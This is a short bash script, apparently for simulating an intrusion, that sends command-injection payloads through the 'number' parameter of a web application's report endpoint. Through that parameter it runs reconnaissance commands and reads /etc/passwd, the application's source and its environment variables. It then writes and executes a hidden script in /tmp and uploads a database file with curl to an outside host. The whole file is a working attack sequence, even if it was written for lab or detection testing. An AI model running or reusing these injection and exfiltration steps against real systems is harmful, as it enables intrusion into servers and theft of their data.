#!/bin/bash
# An intruder passes commands to the shell of the web application: looks around, reads its settings, leaves a script and
# runs it.
# web-shell.sh KEYS FILES SECONDS

# inject COMMAND: has the application's shell run a command after a report.
inject() {
    curl -s -G -o /dev/null --interface 203.0.113.66 --data-urlencode "number=1.csv; [ -e /stage/evil ]; $1; : " \
        http://10.0.0.5/app/report
    sleep 2
}

inject 'id'
inject 'ls -la / /srv /home'
inject 'cat /etc/passwd'
inject 'cat /opt/services/app.py'
inject 'env'
inject 'echo "bmMK" | base64 -d'
inject "printf '#!/bin/sh\nuname -a\nps aux\ncat /proc/net/tcp\nls -la /var/www /tmp\n' > /tmp/.session; chmod 755 /tmp/.session"
inject '/tmp/.session'
inject 'curl -s --data-binary @/var/tmp/orders-1.db http://198.51.100.7:8000/'
